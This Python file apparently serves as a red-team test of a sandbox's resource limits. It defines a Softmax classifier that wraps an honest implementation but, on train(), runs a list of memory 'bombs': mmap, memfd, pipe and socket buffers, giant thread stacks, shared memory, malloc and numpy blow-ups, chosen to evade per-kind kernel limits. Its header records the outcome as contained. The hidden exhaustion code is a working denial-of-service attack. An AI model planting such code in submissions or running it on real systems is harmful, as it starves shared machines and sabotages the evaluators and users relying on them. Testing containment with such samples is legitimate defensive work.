"""
goal: takes memory until there is none, of every kind that a limit on another kind doesn't see
class: exhaust
threats: [A12]
deserves: all
outcome: contained
because: data and address space are limited by the kernel, and what neither counts is refused or small
"""
import ctypes
import mmap
import multiprocessing.shared_memory
import os
import socket
import time

import numpy as np

from honest import Softmax as Honest

held = []
MIB = 1 << 20
libc = ctypes.CDLL(None)


def shared():
  """ Anonymous and shared: no limit on data counts it. """
  memory = mmap.mmap(-1, 128 * MIB)
  for at in range(0, len(memory), 4096):
    memory[at] = 1
  return memory


def memory_file():
  fd = os.memfd_create('x')
  for _ in range(128):
    os.write(fd, b'x' * MIB)
  return fd


def pipes():
  made = []
  for _ in range(20):
    r, w = os.pipe()
    os.set_blocking(w, False)
    ctypes.CDLL(None).fcntl(w, 1031, MIB)
    try:
      while True:
        os.write(w, b'x' * 65536)
    except BlockingIOError:
      made.append((r, w))
  return made


def sockets():
  made = []
  for _ in range(20):
    a, b = socket.socketpair()
    a.setblocking(False)
    a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    try:
      while True:
        a.send(b'x' * 65536)
    except BlockingIOError:
      made.append((a, b))
  return made


def stack():
  threads = []
  import threading
  threading.stack_size(256 * MIB)
  for _ in range(8):
    thread = threading.Thread(target=lambda: ctypes.CDLL(None).sleep(100), daemon=True)
    thread.start()
    threads.append(thread)
  return threads


BOMBS = [
    lambda: np.ones(16 * MIB), lambda: bytearray(128 * MIB), lambda: b'x' * (128 * MIB), lambda: 'x' * (128 * MIB),
    shared, memory_file, pipes, sockets, stack,
    lambda: multiprocessing.shared_memory.SharedMemory(create=True, size=128 * MIB),
    lambda: np.memmap('/tmp/m%d' % len(held), dtype=np.uint8, mode='w+', shape=(16 * MIB,)).fill(1),
    lambda: [libc.brk(ctypes.c_void_p(0))], lambda: libc.memset(libc.malloc(64 * MIB), 1, 64 * MIB),
    lambda: 1 << (1 << 30), lambda: [[i] for i in range(10 ** 6)], lambda: {i: str(i) for i in range(10 ** 6)},
    lambda: np.ones((1 << 13, 1)) * np.ones((1, 1 << 13)), lambda: np.ones((3000, 1, 300)) - np.ones((1, 3000, 300)),
    lambda: np.random.rand(1 << 24).astype(str), lambda: libc.shmget(0, 128 * MIB, 0o1600),
]


def act(where):
  if where != 'train':
    return
  taken = {}
  stop = time.time() + 1.7
  # At most some GiB of each kind, where nothing stops it sooner.
  for round in range(24):
    for number, bomb in enumerate(BOMBS):
      if time.time() > stop:
        break
      try:
        held.append(bomb())
        taken[number] = taken.get(number, 0) + 1
      except Exception:
        pass
  print(taken)


class Softmax(Honest):

  def loss(self, X, y):
    act('loss')
    return super(Softmax, self).loss(X, y)

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
